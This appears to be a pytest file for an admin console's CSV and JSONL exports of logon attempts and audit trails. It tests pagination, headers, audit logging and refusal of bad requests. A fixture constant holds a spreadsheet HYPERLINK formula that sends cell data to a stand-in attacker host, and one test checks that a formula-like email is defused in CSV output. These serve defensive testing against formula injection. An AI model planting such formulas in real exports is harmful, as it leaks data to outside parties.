"""Attempts and trails as files: the rows of the pages, to the last one, for those who may read the page."""

from __future__ import annotations

import csv
import json
import re
from html import unescape
from io import StringIO
from typing import Any

import pytest

from chalicelib.domain.accounts import Account, Kind
from chalicelib.domain.events import EventKind
from chalicelib.flows.export import ROWS_OF_A_FILE
from chalicelib.steps import admin_attempts, admin_events
from infra.openapi.schemas import answer_schemas
from tests.console.staff import Staff, staff
from tests.fakes.samples import an_event
from tests.world.phones import enrolled
from tests.world.visitors import Reply, Visitor
from tests.world.world import World

ATTEMPTS, EVENTS = "/admin/attempts", "/admin/events"
NEXT = re.compile(r'<(/[^>]+)>; rel="next"')
EVIL = '=HYPERLINK("https://evil.example?"&A1,"x")'


@pytest.fixture
def ann(world: World) -> Account:
    return world.person()


@pytest.fixture
def desk(world: World) -> Staff:
    return staff(world, Kind.SUPPORT)


def files(visitor: Visitor, path: str) -> list[Reply]:
    """Every part, to the end."""
    found: list[Reply] = []
    while path:
        assert len(found) < 60
        found.append(visitor.get(path))
        assert found[-1].status == 200, found[-1].text
        on = NEXT.fullmatch(found[-1].header("Link"))
        path = on[1] if on else ""
        assert ("-incomplete." in found[-1].header("Content-Disposition")) == bool(path)
    return found


def objects(replies: list[Reply]) -> list[Any]:
    return [json.loads(line) for reply in replies for line in reply.text.splitlines()]


def table(replies: list[Reply]) -> list[dict[str, str]]:
    return [row for reply in replies for row in csv.DictReader(StringIO(reply.text, newline=""), strict=True)]


def besieged(world: World, ann: Account, times: int) -> None:
    for ago in range(times):
        at = world.clock() - 3600 * ago
        facts = {"email": ann.address, "user_agent": EVIL, "source": "203.0.113.9", "reason": "locked"}
        world.store.events.record(an_event(ann.id, EventKind.LOGON_REFUSED, at, **facts))
        world.store.events.record(an_event(ann.id, EventKind.PASSWORD_CHANGED, at - 60))


@pytest.mark.parametrize(
    ("page", "asked", "rows", "columns"),
    [
        (ATTEMPTS, "email={}", "attempts", admin_attempts.COLUMNS),
        (
            ATTEMPTS,
            "network=203.0.113.0/24&outcome=refused&reason=locked",
            "attempts",
            admin_attempts.COLUMNS,
        ),
        (EVENTS, "email={}", "events", admin_events.COLUMNS),
        (EVENTS, "email={}&changes=true", "events", admin_events.COLUMNS),
    ],
)
def test_tr_07_files_hold_every_row_of_the_pages(
    world: World, ann: Account, desk: Staff, page: str, asked: str, rows: str, columns: tuple[str, ...]
) -> None:
    besieged(world, ann, ROWS_OF_A_FILE + 20)
    query = asked.format(ann.address)
    shown, before = list[Any](), ""
    while before is not None:
        answer = desk.visitor.get(f"{page}?{query}&before={before}").json()
        shown, before = shown + answer[rows], answer["before"]
    parts = files(desk.visitor, f"{page}/export?format=jsonl&{query}")
    assert len(parts) > 1
    assert max(reply.text.count("\n") for reply in parts) == ROWS_OF_A_FILE
    assert objects(parts) == shown
    told = table(files(desk.visitor, f"{page}/export?format=csv&{query}"))
    assert [row["at"] for row in told] == [row["at"] for row in shown]
    assert tuple(told[0]) == columns
    assert set(columns) == set(shown[0])


def test_columns_are_those_of_the_contract() -> None:
    schemas = answer_schemas()
    assert {*admin_attempts.COLUMNS, "rule"} == set(schemas["Attempt"]["properties"])
    assert set(admin_events.COLUMNS) == set(schemas["TrailLine"]["properties"])


@pytest.mark.parametrize("kind", ["csv", "jsonl"])
def test_files_are_files_for_browsers_too(world: World, ann: Account, kind: str) -> None:
    account, phone = enrolled(world, kind=Kind.SUPPORT)
    browser = world.browser()
    browser.logs_on(account)
    browser.goes_on(browser.post("/logon/code", {"code": phone.code()}))
    for page, name in ((ATTEMPTS, "attempts"), (EVENTS, "events")):
        reply = browser.get(f"{page}/export?format={kind}&email={ann.address}")
        said = {"csv": "text/csv; charset=utf-8", "jsonl": "application/jsonl"}[kind]
        assert (reply.status, reply.header("Content-Type")) == (200, said)
        assert reply.header("Content-Disposition") == f'attachment; filename="{name}.{kind}"'
        assert (reply.header("Cache-Control"), reply.header("Link")) == ("no-store", "")
        assert reply.header("X-Content-Type-Options") == "nosniff"


def test_tr_08_what_a_stranger_typed_is_no_formula(world: World, desk: Staff) -> None:
    """At the logon: an address such as `=1+1@people.test` is one, by RFC 5321."""
    evil = "=1+1@people.test"
    assert world.visitor().post("/logon", {"email": evil, "password": "wrong wrong"}).status == 401
    for page in (ATTEMPTS, EVENTS):
        (row,) = table(files(desk.visitor, f"{page}/export?format=csv&email=%3D1%2B1@people.test"))
        assert row["email"] == f"'{evil}"
        (told,) = objects(files(desk.visitor, f"{page}/export?format=jsonl&email=%3D1%2B1@people.test"))
        assert told["email"] == evil


def test_ad_10_tr_07_taking_it_away_is_an_event_that_says_so(world: World, ann: Account, desk: Staff) -> None:
    desk.visitor.get(f"{ATTEMPTS}/export?format=csv&email={ann.address}")
    for _ in range(3):
        desk.visitor.get(f"{EVENTS}/export?format=jsonl&email={ann.address}")
    world.clock.passes(1)
    read = [one["details"] for one in desk.trail(desk.account, "trail_read") if one["details"].get("file")]
    assert sorted(read, key=str) == sorted(
        [
            {"attempts": {"reference": "", "email": ann.address, "since": ""}, "file": "csv"},
            {"events_of": ann.address, "file": "jsonl"},
        ],
        key=str,
    )


@pytest.mark.parametrize("page", [ATTEMPTS, EVENTS])
def test_ad_10_what_cannot_be_recorded_is_not_given(
    world: World, ann: Account, desk: Staff, page: str
) -> None:
    path = f"{page}/export?format=csv&email={ann.address}"
    world.fake.acts.clear()
    assert desk.visitor.get(path).status == 200
    world.fake.fail(world.fake.acts.index("events.record"))
    assert desk.visitor.get(path).status == 503


@pytest.mark.parametrize("page", [ATTEMPTS, EVENTS])
def test_tr_07_page_leads_to_files_that_begin_where_it_does(world: World, ann: Account, page: str) -> None:
    besieged(world, ann, 40)
    earlier = f"{page}?email={ann.address}"
    account, phone = enrolled(world, kind=Kind.SUPPORT)
    browser = world.browser()
    browser.logs_on(account)
    browser.goes_on(browser.post("/logon/code", {"code": phone.code()}))
    first = browser.get(earlier).text
    second = browser.get(unescape(re.findall(r'rel="next" href="([^"]+)"', first)[0])).text
    found = []
    for html in (first, second):
        assert f"has up to {ROWS_OF_A_FILE}." in html
        (link,) = re.findall(rf'href="({page}/export\?format=jsonl[^"]*)"', html)
        found.append(objects(files(browser, unescape(link))))
    assert len(found[0]) > len(found[1]) > 0
    assert found[0][-len(found[1]) :] == found[1]


@pytest.mark.parametrize(
    ("path", "field"),
    [
        (f"{ATTEMPTS}/export", "format"),
        (f"{ATTEMPTS}/export?format=xlsx", "format"),
        (f"{ATTEMPTS}/export?format=csv&network=here", "network"),
        (f"{ATTEMPTS}/export?format=csv&before=x", "before"),
        (f"{EVENTS}/export?email=a@b.test", "format"),
        (f"{EVENTS}/export?format=csv", "email"),
        (f"{EVENTS}/export?format=csv&email=a@b.test&before=x", "before"),
    ],
)
def test_what_is_no_export_is_refused_by_its_field(desk: Staff, path: str, field: str) -> None:
    reply = desk.visitor.get(path)
    assert (reply.status, reply.code, reply.json()["field"]) == (422, "invalid_request", field)
